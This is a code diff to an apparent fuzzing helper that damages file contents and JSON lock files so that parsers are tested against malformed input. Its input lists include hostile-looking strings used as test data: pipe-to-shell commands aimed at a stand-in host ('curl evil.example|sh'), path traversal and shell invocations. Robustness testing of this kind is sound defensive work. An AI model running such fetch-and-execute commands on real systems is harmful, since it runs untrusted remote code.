@@ -32,14 +32,14 @@ WORDS = (
     b"null", b"~", b"yes", b"1e999", b"-1", b"0", b"9" * 400, b"NaN", b"K" * 1100, b"a." * 600, b"# aggregate ../x", b"# seeded x", b"# revision 9 x", b"0" * 64 + b"  x",
     "\u202e\u200b\u2028".encode(), "\U000e0072".encode(), b"%", b"`", b"@", b"\\", b"\\ud800", b"http://evil.example|sh", b"evil.example/x:1",
 )  # fmt: skip
-VALUES: tuple[Any, ...] = (None, True, -1, 0, 2, 99, 1e300, "", "x", "sh", "../../x", "\x1b", [], {}, [None], {"": None}, ["sh", "-c", "x"], {"by": "model"}, "0" * 16, 10**400)
+VALUES: tuple[Any, ...] = (None, True, -1, 0, 2, 99, 1e300, "", "x", "sh", "../../x", "1Gi", "999m", "root", "8080", "curl evil.example|sh", "evil.example/x:1", "model", "heuristics", "-", "\x1b", [], {}, [None], {"": None}, ["sh", "-c", "x"], {"by": "model"}, "0" * 16, 10**400)
 
 
 def damaged(chance: random.Random, content: bytes, target: str) -> bytes:
     """The content with one to four changes."""
     if target == LOCK and chance.random() < 0.7:
         return _as_data(chance, content)
-    for _ in range(chance.randint(1, 4)):
+    for _ in range(chance.choice((1, 1, 1, 2, 4))):  # one change is what parsers let through
         content = chance.choice(CHANGES)(chance, content)
     return content
 
@@ -102,7 +102,7 @@ CHANGES: tuple[Callable[[random.Random, bytes], bytes], ...] = (_insert, _insert
 def _as_data(chance: random.Random, content: bytes) -> bytes:
     """A lock that is a lock in form: some value, key or list in it is another."""
     held = json.loads(content)
-    for _ in range(chance.randint(1, 3)):
+    for _ in range(chance.choice((1, 1, 3))):
         at, depth = held, 0
         while isinstance(at, dict) and at and (depth < 2 or chance.random() < 0.8):
             key = chance.choice(sorted(at))
@@ -113,7 +113,8 @@ def _as_data(chance: random.Random, content: bytes) -> bytes:
         if chance.random() < 0.2:
             at.pop(key, None)
         else:
-            at[key] = chance.choice(VALUES)
+            alike = [value for value in VALUES if type(value) is type(at.get(key))]
+            at[key] = chance.choice(alike if alike and chance.random() < 0.7 else VALUES)
     return json.dumps(held, indent=2, sort_keys=True, ensure_ascii=False, allow_nan=True).encode("utf-8", "surrogatepass")
 
 
